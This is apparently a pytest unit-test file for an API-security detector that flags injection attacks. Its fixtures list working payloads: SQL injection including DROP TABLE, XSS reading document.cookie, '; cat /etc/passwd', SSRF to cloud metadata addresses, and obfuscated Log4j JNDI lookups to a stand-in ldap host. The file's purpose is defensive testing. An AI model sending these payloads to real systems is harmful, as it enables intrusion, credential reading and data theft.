"""Unit tests for the injection family: decoding, per-class checks, triggers, linear time."""

from __future__ import annotations

import pytest

from otel_apisec.detect import Analyzer, DetectConfig
from otel_apisec.detect.engine import PatternSet
from otel_apisec.detect.fields import Direction, Field, Source
from otel_apisec.detect.injection import DETECTOR, redirect
from otel_apisec.detect.injection.normalize import collapse_sql_comments, decode
from otel_apisec.detect.injection.ssrf import internal_host
from otel_apisec.detect.injection.template import resolve_lookups
from otel_apisec.testing import make_exchange

ANALYZER = Analyzer(DetectConfig(hmac_key=b"test", enabled=frozenset({"injection"})))
PATTERNS = PatternSet(DETECTOR.triggers)


def _kinds(text: str, name: str = "q", source: Source = Source.QUERY) -> set[str]:
    """Kinds found in one field, going through the real trigger prefilter like the analyzer."""
    field = Field(f"request.query.{name}", text, Direction.REQUEST, source, name=name)
    hits = frozenset(t for _, t in PATTERNS.scan([text.encode("utf-8", "surrogatepass")]))
    return {f.kind for f in DETECTOR.scan(field, hits, ANALYZER.context(make_exchange()))}


class TestDecode:
    def test_double_url_encoding(self) -> None:
        """Two rounds of percent-encoding are peeled."""
        assert decode("%252e%252e%252f") == "../"

    def test_percent_u_and_overlong(self) -> None:
        """%uXXXX and overlong UTF-8 dots decode to ASCII."""
        assert decode("%u002e%c0%ae/") == "../"

    def test_html_entities(self) -> None:
        """Named, decimal, hex and semicolon-less entities decode."""
        assert decode("&lt;script&#62;&#x61;lert&#40;1&#41") == "<script>alert(1)"

    def test_backslash_escapes(self) -> None:
        """JSON-style and hex escapes decode."""
        assert decode("\\u003cimg\\x20src=x>") == "<img src=x>"

    def test_null_bytes_and_fullwidth(self) -> None:
        """NUL bytes are dropped and full-width forms folded (NFKC)."""
        assert decode("/etc/passwd%00.jpg") == "/etc/passwd.jpg"
        assert decode("％２ｅ") == "%2e" or decode("％２ｅ") == "."

    def test_plain_text_unchanged(self) -> None:
        """Text without escapes comes back as it was."""
        assert decode("O'Brien & sons") == "O'Brien & sons"

    def test_javascript_octal_escapes(self) -> None:
        """JavaScript octal escapes (`\\152`) decode like hex ones."""
        assert decode("\\152\\141\\166\\141") == "java"

    def test_escape_floods_are_bounded(self) -> None:
        """An escape flood decodes a bounded number of escapes per round, the rest stays as written."""
        decoded = decode("%25" * 100_000)
        assert "%25" in decoded and len(decoded) < 3 * 100_000

    def test_sql_comments(self) -> None:
        """Inline comments can be glued (split keywords) or spaced, versioned comments unwrapped."""
        assert collapse_sql_comments("UN/**/ION SEL/*x*/ECT", "") == "UNION SELECT"
        assert "select" in collapse_sql_comments("/*!50000select*/ 1", " ").lower()


class TestSqli:
    @pytest.mark.parametrize(
        "text",
        [
            "1' OR '1'='1",
            "admin'--",
            "1; DROP TABLE users",
            "1 AND SLEEP(5)",
            "'; WAITFOR DELAY '0:0:5'--",
            "1 UNION ALL SELECT NULL,NULL--",
            "1 UN/**/ION SEL/**/ECT 1,2",
            "1 /*!50000union*/ /*!50000select*/ 1",
            "1 AND BENCHMARK(1000000,MD5(1))",
            "1%2527%20OR%201%3D1--",
        ],
    )
    def test_attacks(self, text: str) -> None:
        """Tautologies, stacked queries, time-based blind, UNION and comment obfuscation fire."""
        assert "sqli" in _kinds(text)

    @pytest.mark.parametrize(
        "text",
        [
            "O'Brien",
            "D'Angelo",
            "Please select the union option from the drop-down.",
            "Rock 'n' roll",
            "I'd rather drop the order than wait",
            "1 or 2 items per order",
            "where are you from?",
        ],
    )
    def test_benign(self, text: str) -> None:
        """Apostrophes and SQL words in prose do not fire."""
        assert "sqli" not in _kinds(text)


class TestXss:
    @pytest.mark.parametrize(
        "text",
        [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(document.cookie)",
            "<iframe src=//x.example>",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            "\\u003cimg src=x onerror=alert(1)\\u003e",
        ],
    )
    def test_attacks(self, text: str) -> None:
        """Script tags, event handlers, script URLs and encoded markup fire."""
        assert "xss" in _kinds(text)

    @pytest.mark.parametrize(
        "text",
        [
            "a < b > c",
            "I <3 this",
            "**bold** and _italic_ markdown",
            "Accept: */*",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/124.0 Safari/537.36",
            "https://example.com/search?q=shoes&page=2",
        ],
    )
    def test_benign(self, text: str) -> None:
        """Math, hearts, markdown, user agents and URLs do not fire."""
        assert "xss" not in _kinds(text)


class TestOtherClasses:
    @pytest.mark.parametrize(
        ("text", "kind"),
        [
            ("../../etc/passwd", "path_traversal"),
            ("..%c0%af..%c0%afetc/passwd", "path_traversal"),
            ("; cat /etc/passwd", "command_injection"),
            ("`whoami`", "command_injection"),
            ("http://0x7f000001/", "ssrf"),
            ("http://[::ffff:169.254.169.254]/", "ssrf"),
            ("gopher://x.example:25/_HELO", "ssrf"),
            ('{"$where": "sleep(100)"}', "nosqli"),
            ("{{config.__class__.__init__.__globals__}}", "ssti"),
            ("#{7*7}", "ssti"),
            ("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}", "jndi_injection"),
            ("*)(uid=*))(|(uid=*", "ldap_injection"),
        ],
    )
    def test_attacks(self, text: str, kind: str) -> None:
        """Each class fires on a typical payload."""
        assert kind in _kinds(text)

    @pytest.mark.parametrize(
        "text",
        [
            "reports/2024/q1.pdf",
            "Tom & Jerry",
            "cats & dogs; birds",
            "https://cdn.example.net/img.png",
            "Hello {{name}}",
            "$10 off",
            "(see above)",
            "http://203.0.113.9/feed",
        ],
    )
    def test_benign(self, text: str) -> None:
        """Near-misses for the other classes do not fire."""
        assert not _kinds(text)

    def test_open_redirect_only_in_redirect_params(self) -> None:
        """An off-site URL counts in `next`, not in an ordinary parameter."""
        assert "open_redirect" in _kinds("//evil.example", name="next")
        assert "open_redirect" in _kinds("/\\evil.example", name="return_to")
        assert "open_redirect" not in _kinds("//evil.example", name="q")
        assert "open_redirect" not in _kinds("/account?tab=2", name="next")


class TestOpenRedirect:
    def _kinds(self, text: str, name: str = "next", host: str = "api.example.com") -> set[str]:
        field = Field(f"request.query.{name}", text, Direction.REQUEST, Source.QUERY, name=name)
        hits = frozenset(t for _, t in PATTERNS.scan([text.encode()]))
        ctx = ANALYZER.context(make_exchange(f"https://{host}/login"))
        return {f.kind for f in DETECTOR.scan(field, hits, ctx)}

    def test_other_host_fires(self) -> None:
        """An absolute URL to another host is an open redirect."""
        assert "open_redirect" in self._kinds("https://evil.example/x")

    def test_request_host_does_not_fire(self) -> None:
        """An absolute URL back to the request's own host stays on the site."""
        assert "open_redirect" not in self._kinds("https://API.example.com:443/account")

    def test_userinfo_does_not_fool_the_host_check(self) -> None:
        """The request host as userinfo in front of another host still leaves the site."""
        assert "open_redirect" in self._kinds("https://api.example.com@evil.example/")

    def test_split_scheme_fires(self) -> None:
        """Tabs and newlines inside `javascript:` are dropped by URL parsers, so they still count."""
        assert "open_redirect" in self._kinds("java\tscript\n:alert(1)")

    def test_ordinary_fields_skip_the_check(self) -> None:
        """A URL under a non-redirect name never reaches decoding or the check."""
        field = Field("request.body.$.image", "https://cdn.example.net/a.jpg", Direction.REQUEST, Source.BODY,
                      name="image")
        assert not redirect.applies(field)


class TestTriggers:
    def test_clean_json_has_no_hits(self) -> None:
        """A realistic clean JSON body hits no injection trigger, so it is never parsed."""
        from bench.benign import benign_json_body

        assert PATTERNS.scan([benign_json_body(1 << 16, seed=3)]) == set()

    def test_shared_trigger_runs_every_owner(self) -> None:
        """`${` is one trigger for template, JNDI and command checks."""
        index = next(i for i, t in enumerate(DETECTOR.triggers) if t.expr == r"\$\{|\{\$")
        kinds = {f.rule.kind for f in DETECTOR.families_for([index])}
        assert kinds == {"ssti", "jndi_injection", "command_injection"}


class TestHelpers:
    @pytest.mark.parametrize(
        "host",
        [
            "127.1",
            "2130706433",
            "0x7f.0.0.1",
            "0177.0.0.1",
            "[::1]",
            "10.0.0.5",
            "169.254.169.254",
            "metadata.google.internal",
            "127.0.0.1.nip.io",
        ],
    )
    def test_internal_hosts(self, host: str) -> None:
        """Loopback, private and metadata hosts are internal in any spelling."""
        assert internal_host(host) is not None

    @pytest.mark.parametrize("host", ["example.com", "8.8.8.8", "203.0.113.9", "[2001:db8::1]"])
    def test_public_hosts(self, host: str) -> None:
        """Public names and addresses are not internal."""
        assert internal_host(host) is None

    def test_lookup_resolution(self) -> None:
        """Nested Log4j lookups collapse to the text they produce."""
        assert resolve_lookups("${${lower:J}${::-n}di:x}").lower() == "${jndi:x}"


class TestInvariantAndFastPath:
    def test_json_body_findings(self) -> None:
        """An attack inside a clean-looking JSON body is found through the raw-body fast path."""
        analysis = ANALYZER.analyze(
            make_exchange(
                "https://api.example.com/x", "POST", json={"a": {"b": ["ok", "1' OR '1'='1"]}}
            )
        )
        assert [f.location for f in analysis.findings if f.kind == "sqli"] == [
            "request.body.$.a.b[1]"
        ]

    def test_findings_never_carry_the_value(self) -> None:
        """Messages name the class, never the payload."""
        analysis = ANALYZER.analyze(
            make_exchange("https://api.example.com/x?q=%3Cscript%3Ealert(1)%3C/script%3E")
        )
        assert analysis.findings and all("script>" not in f.message for f in analysis.findings)


class TestLinearTime:
    @pytest.mark.parametrize(
        "text",
        [
            "%" * 1_000_000,
            "'" * 1_000_000,
            "<" * 1_000_000,
            "${" * 500_000,
            "%25" * 333_333,
            "%2525" * 200_000,
            "&#" * 500_000,
            "{{" * 500_000,
            "\\u00" * 250_000,
            "/**/" * 250_000,
            "../" * 333_333,
            ";id" * 333_333,
            "http://" * 140_000,
        ],
    )
    def test_pathological_input_completes(self, text: str) -> None:
        """A 1 MB pathological field goes through triggers and every check (timings in the report)."""
        exchange = make_exchange("https://api.example.com/x", "POST", json={"v": text})
        assert not ANALYZER.analyze(exchange).failed
